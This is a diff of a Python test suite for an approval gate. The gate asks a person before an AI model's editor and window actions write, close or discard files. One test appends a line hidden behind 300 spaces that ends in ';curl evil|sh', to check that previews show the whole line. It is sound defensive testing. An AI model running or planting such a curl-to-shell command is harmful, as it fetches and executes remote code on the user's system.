@@ -59,43 +59,42 @@ def append(desk: Desk, window_id: str, text: str) -> None:
     assert desk.act(f"{window_id}.insert", before_line=1, text=text).ok
 
 
-# --- the question ------------------------------------------------------------------------
+def editing(desk: Callable[..., Desk], *answers: base.Answer) -> Desk:
+    """A desk on which the model has edited notes.txt."""
+    one = desk(*answers).opening("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    return one
 
 
 def test_a_question_names_the_target_and_counts_the_whole_change(
     folder: Path, desk: Callable[..., Desk]
 ) -> None:
     (folder / "long.txt").write_text("".join(f"word {n}\n" for n in range(300)))
-    one = desk("once", "once", "no")
-    one.windows.open("editor", path="long.txt")
+    one = desk("once", "once", "no").opening("editor", path="long.txt")
     assert one.act("editor_1.replace", old="word ", new="term ", count=300).ok
     assert one.act("editor_1.save").ok
     asked = one.questions[0]
     assert (asked.target, asked.verb, asked.name) == ("long.txt", "write", "editor_1.save")
-    assert asked.preview is not None
-    assert (asked.preview.added, asked.preview.removed) == (300, 300)
-    assert asked.preview.whole == (folder / "long.txt").read_text()
+    preview = base.preview_of(asked)
+    assert (preview.added, preview.removed) == (300, 300)
+    assert preview.whole == (folder / "long.txt").read_text()
     append(one, "editor_1", "\n".join(["x"] * 2_501))
     assert one.act("editor_1.save").ok
-    assert one.questions[1].preview is not None
-    assert one.questions[1].preview.added == 2_501
+    assert base.preview_of(one.questions[1]).added == 2_501
     assert not one.act("editor_1.save_as", path="src/../b.txt").ok
     assert one.questions[2].target == "b.txt"
 
 
 def test_a_long_line_is_in_the_question_to_its_end(desk: Callable[..., Desk]) -> None:
-    one = desk("no")
-    one.windows.open("editor", path="notes.txt")
+    one = desk("no").opening("editor", path="notes.txt")
     tail = "version = 1" + " " * 300 + ";curl evil|sh"
     append(one, "editor_1", tail)
     assert not one.act("editor_1.save").ok
-    assert one.questions[0].preview is not None
-    assert f"+{tail}\n" in one.questions[0].preview.diff
+    assert f"+{tail}\n" in base.preview_of(one.questions[0]).diff
 
 
 def test_code_and_notebook_name_the_file_that_they_write(desk: Callable[..., Desk]) -> None:
-    one = desk("no", "no")
-    one.windows.open("code")
+    one = desk("no", "no").opening("code")
     one.windows.open("notebook")
     assert not one.act("code_1.save", code_id="run", language="python", content="1\n").ok
     assert not one.act("notebook_1.keep").ok
@@ -114,16 +113,14 @@ def test_params_without_a_preview_are_whole(desk: Callable[..., Desk]) -> None:
         @action("Write", effect="write")
         def write(self, text: str) -> None: ...
 
-    one = desk("no")
-    one.windows.open(Plain)
+    one = desk("no").opening(Plain)
     assert not one.act("plain_1.write", text="x" * 100_000).ok
     assert one.questions[0].params == {"text": "x" * 100_000}
     assert one.questions[0].preview is None
 
 
 def test_nothing_to_change_is_not_asked_about(folder: Path, desk: Callable[..., Desk]) -> None:
-    one = desk()
-    one.windows.open("editor", path="notes.txt")
+    one = desk().opening("editor", path="notes.txt")
     before = (folder / "notes.txt").stat()
     result = one.act("editor_1.save")
     assert (result.ok, result.text) == (True, "There are no changes to save.")
@@ -134,9 +131,7 @@ def test_nothing_to_change_is_not_asked_about(folder: Path, desk: Callable[..., 
 def test_what_would_fail_is_refused_without_a_question(
     folder: Path, desk: Callable[..., Desk]
 ) -> None:
-    one = desk()
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk)
     (folder / "notes.txt").write_text("theirs\n")
     refused = one.act("editor_1.save")
     assert not refused.ok
@@ -145,9 +140,6 @@ def test_what_would_fail_is_refused_without_a_question(
     assert "already" in one.act("editor_1.save_as", path="other.txt").text
     assert one.questions == []
     assert (folder / "notes.txt").read_text() == "theirs\n"
-
-
-# --- previews that nobody could judge ----------------------------------------------------
 
 
 class Careless(Window):
@@ -205,15 +197,11 @@ def test_a_preview_that_hangs_is_not_allowed(
     end = threading.Event()
     Careless.given, Careless.written = lambda: end.wait(60), 0
     monkeypatch.setattr(transaction, "PATIENCE", 0.05)
-    one = desk("always")
-    one.windows.open(Careless)
+    one = desk("always").opening(Careless)
     result = one.act("careless_1.write", path="a")
     end.set()
     assert "did not answer in time" in result.text
     assert (result.ok, Careless.written, one.questions) == (False, 0, [])
-
-
-# --- what was shown is what is done ------------------------------------------------------
 
 
 def test_what_the_person_types_while_asked_is_shown_before_it_is_saved(
@@ -225,9 +213,7 @@ def test_what_the_person_types_while_asked_is_shown_before_it_is_saved(
         assert "typed" not in (folder / "notes.txt").read_text()
         return "once"
 
-    one = desk(type_and_allow, type_and_allow, "no")
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk, type_and_allow, type_and_allow, "no")
     assert not one.act("editor_1.save").ok
     assert [question.changed for question in one.questions] == [False, True, True]
     shown = [question.preview.diff for question in one.questions if question.preview]
@@ -243,12 +229,9 @@ def test_allowed_again_what_was_shown_last_is_saved(
         assert (await one.windows.act("editor_1", "splice", place, actor="person")).ok
         return "once"
 
-    one = desk(type_and_allow, "once")
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk, type_and_allow, "once")
     assert one.act("editor_1.save").ok
-    assert one.questions[1].preview is not None
-    assert one.questions[1].preview.whole == (folder / "notes.txt").read_text()
+    assert base.preview_of(one.questions[1]).whole == (folder / "notes.txt").read_text()
 
 
 def test_a_file_that_changes_while_asked_is_not_overwritten(
@@ -258,9 +241,7 @@ def test_a_file_that_changes_while_asked_is_not_overwritten(
         (folder / "notes.txt").write_text("theirs\n")
         return "always"
 
-    one = desk(spoil)
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk, spoil)
     assert not one.act("editor_1.save").ok
     assert (folder / "notes.txt").read_text() == "theirs\n"
 
@@ -275,9 +256,7 @@ def test_another_file_opened_while_asked_is_not_saved_by_that_answer(
         assert (await one.windows.act("editor_1", "splice", given, actor="person")).ok
         return "always"
 
-    one = desk(switch, "no")
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk, switch, "no")
     assert not one.act("editor_1.save").ok
     assert [question.target for question in one.questions] == ["notes.txt", ".git/config"]
     assert (folder / ".git/config").read_text() == "[core]\n"
@@ -294,8 +273,7 @@ def test_a_link_that_is_turned_while_asked_leads_nowhere_else(
         (folder / "link").symlink_to(".git/hooks")
         return "once"
 
-    one = desk(turn, "no")
-    one.windows.open("editor", path="notes.txt")
+    one = desk(turn, "no").opening("editor", path="notes.txt")
     assert not one.act("editor_1.save_as", path="link/post-commit").ok
     targets = [question.target for question in one.questions]
     assert targets == ["data/post-commit", ".git/hooks/post-commit"]
@@ -305,8 +283,7 @@ def test_a_link_that_is_turned_while_asked_leads_nowhere_else(
 def test_what_never_stays_the_same_is_given_up(desk: Callable[..., Desk]) -> None:
     count = itertools.count()
     Careless.given, Careless.written = lambda: Preview("a", text=str(next(count))), 0
-    one = desk(*["once"] * 50)
-    one.windows.open(Careless)
+    one = desk(*["once"] * 50).opening(Careless)
     result = one.act("careless_1.write", path="a")
     assert "effect changed each time" in result.text
     assert (result.ok, Careless.written) == (False, 0)
@@ -315,8 +292,7 @@ def test_what_never_stays_the_same_is_given_up(desk: Callable[..., Desk]) -> Non
 
 def test_a_granted_target_may_change_while_the_action_waits(desk: Callable[..., Desk]) -> None:
     count = itertools.count()
-    one = desk("always")
-    one.windows.open(Careless)
+    one = desk("always").opening(Careless)
     Careless.given, Careless.written = Preview("a", text="first"), 0
     assert one.act("careless_1.write", path="a").ok
     Careless.given = lambda: Preview("a", text=str(next(count)))
@@ -339,9 +315,6 @@ def test_the_facts_of_a_question_count_lines() -> None:
     unknown = Question("editor_1", "save", "Save", {}, problem="no preview").facts()
     assert (unknown["target"], unknown["verb"]) == ("editor_1.save", "run")
     assert (unknown["added"], unknown["removed"], unknown["problem"]) == (0, 0, "no preview")
-
-
-# --- grants ------------------------------------------------------------------------------
 
 
 DONE: list[tuple[str, str, str]] = []
@@ -406,9 +379,7 @@ def test_a_grant_covers_one_cell_of_the_matrix(
 def test_a_grant_for_one_file_does_not_cover_what_the_editor_opens_next(
     folder: Path, desk: Callable[..., Desk]
 ) -> None:
-    one = desk("always", "no", "no", "no", "once", "no", "no")
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk, "always", "no", "no", "no", "once", "no", "no")
     assert one.act("editor_1.save").ok
     append(one, "editor_1", "more")
     assert one.act("editor_1.save").ok  # the same file: granted
@@ -431,8 +402,7 @@ def test_a_grant_for_one_file_does_not_cover_what_the_editor_opens_next(
 def test_a_grant_for_one_window_or_action_does_not_cover_another(
     folder: Path, desk: Callable[..., Desk]
 ) -> None:
-    one = desk("always", "no", "no")
-    one.windows.open("editor", path="notes.txt")
+    one = desk("always", "no", "no").opening("editor", path="notes.txt")
     one.windows.open("editor", path="other.txt")
     append(one, "editor_1", "mine")
     append(one, "editor_2", "mine")
@@ -471,8 +441,7 @@ def test_some_targets_ask_every_time(
     (folder / "script").write_text("#!/bin/sh\n")
     (folder / "one").write_text("")
     (folder / "two").hardlink_to(folder / "one")
-    one = desk("always", "no")
-    one.windows.open(Pen)
+    one = desk("always", "no").opening(Pen)
     assert one.act("pen_1.save", path=path).ok
     assert one.act("pen_1.save", path=path).ok is granted
     assert (one.questions[0].grant is not None) is granted
@@ -481,8 +450,7 @@ def test_some_targets_ask_every_time(
 def test_a_granted_file_that_becomes_executable_asks_again(
     folder: Path, desk: Callable[..., Desk]
 ) -> None:
-    one = desk("always", "no")
-    one.windows.open(Pen)
+    one = desk("always", "no").opening(Pen)
     assert one.act("pen_1.save", path="notes.txt").ok
     assert one.act("pen_1.save", path="./src/../notes.txt").ok  # the same file
     (folder / "notes.txt").chmod(0o755)
@@ -490,8 +458,7 @@ def test_a_granted_file_that_becomes_executable_asks_again(
 
 
 def test_a_shebang_in_the_new_text_asks_every_time(desk: Callable[..., Desk]) -> None:
-    one = desk("always", "no")
-    one.windows.open("editor", path="notes.txt")
+    one = desk("always", "no").opening("editor", path="notes.txt")
     append(one, "editor_1", "#!/bin/sh")
     assert one.act("editor_1.save").ok
     append(one, "editor_1", "#!/bin/sh")
@@ -503,8 +470,7 @@ def test_a_text_preview_is_granted_for_the_same_window_and_params(
     desk: Callable[..., Desk],
 ) -> None:
     Careless.given, Careless.written = "words", 0
-    one = desk("always", "no", "no", "always", "no", "no")
-    one.windows.open(Careless)
+    one = desk("always", "no", "no", "always", "no", "no").opening(Careless)
     one.windows.open(Careless)
     assert one.act("careless_1.write", path="a").ok
     assert one.act("careless_1.write", path="a").ok
@@ -523,20 +489,15 @@ def test_a_shebang_in_a_diff_or_the_whole_text_is_never_granted(
 ) -> None:
     diff = "" if whole else "--- a\n+++ a\n@@ -0,0 +1 @@\n+#!/bin/sh\n"
     Careless.given = Preview("a", diff=diff, text="x", whole=whole)
-    one = desk("no")
-    one.windows.open(Careless)
+    one = desk("no").opening(Careless)
     assert not one.act("careless_1.write", path="a").ok
     assert (one.questions[0].target, one.questions[0].grant) == ("a", None)
 
 
 def test_a_refusal_and_one_answer_grant_nothing(desk: Callable[..., Desk]) -> None:
-    one = desk("once", "no", "once", "no")
-    one.windows.open(Pen)
+    one = desk("once", "no", "once", "no").opening(Pen)
     results = [one.act("pen_1.save", path="a.txt").ok for _ in range(4)]
     assert results == [True, False, True, False]
-
-
-# --- unsaved edits of the person ---------------------------------------------------------
 
 
 def typed(desk: Desk, window_id: str, text: str) -> None:
@@ -564,8 +525,7 @@ def test_giving_up_what_a_person_typed_asks_and_shows_it(
     assert "my words" in window.snapshot().content
     question = one.questions[0]
     assert (question.verb, question.target, question.grant) == ("close", "notes.txt", None)
-    assert question.preview is not None
-    assert "+my words one\n" in question.preview.diff
+    assert "+my words one\n" in base.preview_of(question).diff
     assert one.act(name, **params).ok
     assert len(one.questions) == 2
 
@@ -640,17 +600,14 @@ def test_a_busy_window_gives_up_nothing_of_a_person(
 
 
 def test_a_model_may_give_up_its_own_edits(desk: Callable[..., Desk]) -> None:
-    one = desk()
-    one.windows.open("editor", path="notes.txt")
-    append(one, "editor_1", "mine")
+    one = editing(desk)
     assert one.act("editor_1.reload", discard=True).ok
     append(one, "editor_1", "mine")
     assert one.act("editor_1.close").ok
 
 
 def test_saved_edits_need_no_consent(folder: Path, desk: Callable[..., Desk]) -> None:
-    one = desk()
-    one.windows.open("editor", path="notes.txt")
+    one = desk().opening("editor", path="notes.txt")
     typed(one, "editor_1", "my words ")
     assert one.by_person("editor_1.save").ok
     one.windows.settle_now()
@@ -718,8 +675,7 @@ class Sheet(Letter):
 def test_an_action_that_gives_nothing_up_is_not_asked_about(
     desk: Callable[..., Desk], monkeypatch: pytest.MonkeyPatch, given: Preview, asks: bool
 ) -> None:
-    one = desk("no")
-    one.windows.open(Sheet)
+    one = desk("no").opening(Sheet)
     assert one.by_person("sheet_1.write", text="Dear …").ok
     monkeypatch.setattr(Sheet, "given", given)
     assert one.act("sheet_1.write", text="Dear all …").ok is not asks
@@ -727,8 +683,7 @@ def test_an_action_that_gives_nothing_up_is_not_asked_about(
 
 
 def test_any_window_with_something_unsaved_asks(desk: Callable[..., Desk]) -> None:
-    one = desk("no")
-    one.windows.open(Letter)
+    one = desk("no").opening(Letter)
     assert one.by_person("letter_1.write", text="Dear …").ok
     assert one.act("letter_1.write", text="Dear all …").ok  # changes it, and gives nothing up
     assert not one.act("letter_1.close").ok
@@ -753,8 +708,7 @@ class Diary(Letter):
 def test_what_the_window_showed_as_unsaved_counts_if_it_fails_now(
     desk: Callable[..., Desk], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    one = desk("no")
-    one.windows.open(Diary)
+    one = desk("no").opening(Diary)
     assert one.by_person("diary_1.write", text="Dear diary").ok
     assert one.act("diary_1.write", text="Dear diary …").ok  # no preview, and nothing is given up
     one.windows.settle_now()
@@ -786,9 +740,6 @@ def test_closing_everything_asks_for_what_the_person_typed_alone(
     assert [question.target for question in one.questions] == ["other.txt"]
 
 
-# --- one way in ----------------------------------------------------------------------------
-
-
 def test_there_is_one_way_from_a_model_to_a_window() -> None:
     """Whatever a model says, in any protocol, reaches a window through the tools and the gate."""
     acting = re.compile(r"\b_?windows\.(act|open|open_for_model|close|restore)\(|runtime\.act\(")
@@ -804,9 +755,6 @@ def test_there_is_one_way_from_a_model_to_a_window() -> None:
     assert "windows.act(" in docstring  # an example, and no call
     source = inspect.getsource(ToolBox.action)
     assert "allow=self.gate.allow" in source
-
-
-# --- without a person --------------------------------------------------------------------
 
 
 def test_a_refusal_names_target_counts_and_flag(desk: Callable[..., Desk]) -> None:
@@ -828,8 +776,7 @@ def test_a_refusal_names_target_counts_and_flag(desk: Callable[..., Desk]) -> No
 
 def test_a_refusal_without_a_target_names_the_action_once(desk: Callable[..., Desk]) -> None:
     Careless.given = "words"
-    one = desk(mode="read-only")
-    one.windows.open(Careless)
+    one = desk(mode="read-only").opening(Careless)
     assert one.act("careless_1.write", path="a").text == (
         "careless_1.write was not carried out: it writes, and the person allows no changes now "
         "(approval is read-only)."
@@ -841,8 +788,7 @@ def test_waiting_for_the_person_is_measured_apart(desk: Callable[..., Desk]) -> 
         await asyncio.sleep(0.05)
         return "no"
 
-    one = desk(think)
-    one.windows.open(Pen)
+    one = desk(think).opening(Pen)
     assert one.gate.waited == 0
     began = time.monotonic()
     assert not one.act("pen_1.save", path="a").ok
